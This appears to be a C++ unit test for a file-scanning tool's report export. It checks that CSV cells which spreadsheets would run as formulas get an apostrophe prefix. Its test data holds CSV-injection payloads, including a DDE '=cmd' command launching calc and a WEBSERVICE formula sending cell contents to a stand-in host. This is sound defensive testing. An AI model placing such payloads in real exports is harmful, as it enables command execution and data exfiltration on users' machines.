#include "PythonReport.h"
#include "ReportTestSupport.h"
#include "TempDir.h"

#include "report/ReportService.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

namespace tess {
namespace {

using namespace std::string_literals;
namespace python = test::python;

struct Cell {
    std::string text;
    bool neutralised;  // a spreadsheet would read it as a formula
};

// Names chosen by whoever can write into the tree, and what a spreadsheet
// makes of a cell that begins like them.
const Cell kCells[] = {
    {R"(=HYPERLINK("https:example.invalid","invoice.pdf"))", true},
    {R"(=WEBSERVICE("https://example.invalid/?q="&ENCODEURL(B3)))", true},
    {"=cmd|' /C calc'!A0", true},
    {"+1+2.txt", true},
    {"-draft.txt", true},
    {"@SUM(A1).txt", true},
    {"\tindented.txt", true},
    {"\rreturn.txt", true},
    {"=", true},
    {"a=b.txt", false},
    {" =spaced.txt", false},
    {"'quoted already.txt", false},
    {"\"=quoted\".txt", false},
    {"\n=after a line feed.txt", false},
    {"plain.txt", false},
};

std::string inCsv(const Cell& cell)
{
    return cell.neutralised ? "'" + cell.text : cell.text;
}

IndexedFile rowOf(const std::string& name)
{
    IndexedFile file;
    file.relativePath = name;
    file.path = "/data/" + name;
    file.issueCount = 1;
    file.hasIssues = true;
    file.issueTypes = "characterTransformed";
    file.proposedRename = name;
    file.needsRename = true;
    file.firstSeen = test::utc(2026, 12, 9, 9, 30, 0);
    file.lastScanned = file.firstSeen;
    return file;
}

// In the CSV files a cell that would run as a formula gets an apostrophe
// first inside its quotes; Python's csv module reads back exactly that, and
// JSON keeps the exact text.
TEST(ReportFormulas, CsvCellsThatWouldRunAsFormulasGetAnApostrophe)
{
    if (!python::interpreter()) {
        GTEST_SKIP() << "python3 is not installed";
    }
    using Format = AppSettings::ReportFormat;
    test::TempDir dir;
    std::vector<IndexedFile> rows;
    RenameReport report;
    report.scanRoot = "/data";
    for (const Cell& cell : kCells) {
        rows.push_back(rowOf(cell.text));
        report.renamed.push_back({cell.text, cell.text});
        report.failed.push_back({cell.text, cell.text});
        report.removedDirectories.push_back(cell.text);
    }
    const ReportService::FileSource source = test::sourceOf(rows);
    ASSERT_TRUE(ReportService::writeScanReportFile(dir / "scan.csv", Format::csv, "/data", source));
    ASSERT_TRUE(ReportService::writeScanReportFile(dir / "scan.json", Format::json, "/data", source));
    ASSERT_TRUE(ReportService::writeRenameReportFile(dir / "rename.csv", Format::csv, report));
    ASSERT_TRUE(ReportService::writeRenameReportFile(dir / "rename.json", Format::json, report));

    const auto scan = python::readCsv(dir / "scan.csv");
    const auto rename = python::readCsv(dir / "rename.csv");
    const auto scanJson = python::readJson(dir / "scan.json");
    const auto renameJson = python::readJson(dir / "rename.json");
    ASSERT_TRUE(scan && rename && scanJson && renameJson);
    const std::size_t n = std::size(kCells);
    // The rename report: a title and a header line, then the records of
    // each section, and an empty line before each later section (which the
    // csv module reads as an empty record).
    ASSERT_EQ(scan->size(), 1 + n);
    ASSERT_EQ(rename->size(), 2 + n + 2 * (3 + n));
    for (std::size_t i = 0; i < n; ++i) {
        const Cell& cell = kCells[i];
        SCOPED_TRACE(testing::PrintToString(cell.text));
        const std::string shown = inCsv(cell);
        EXPECT_EQ((*scan)[1 + i], (std::vector<std::string> {shown, "/data/" + cell.text, "false", "1", "characterTransformed", "true", shown, "2026-12-09T09:30:00Z", "2026-12-09T09:30:00Z"}));
        EXPECT_EQ((*rename)[2 + i], (std::vector<std::string> {shown, shown}));
        EXPECT_EQ((*rename)[2 + n + 3 + i], (std::vector<std::string> {shown, shown}));
        EXPECT_EQ((*rename)[2 + 2 * (n + 3) + i], (std::vector<std::string> {shown}));

        const std::string index = std::to_string(i);
        EXPECT_EQ(scanJson->at("issues." + index + ".path"), "s" + cell.text);
        EXPECT_EQ(scanJson->at("issues." + index + ".proposedRename"), "s" + cell.text);
        EXPECT_EQ(renameJson->at("renamed." + index + ".originalPath"), "s" + cell.text);
        EXPECT_EQ(renameJson->at("failed." + index + ".error"), "s" + cell.text);
        EXPECT_EQ(renameJson->at("removedDirectories." + index), "s" + cell.text);
    }
}

}  // namespace
}  // namespace tess
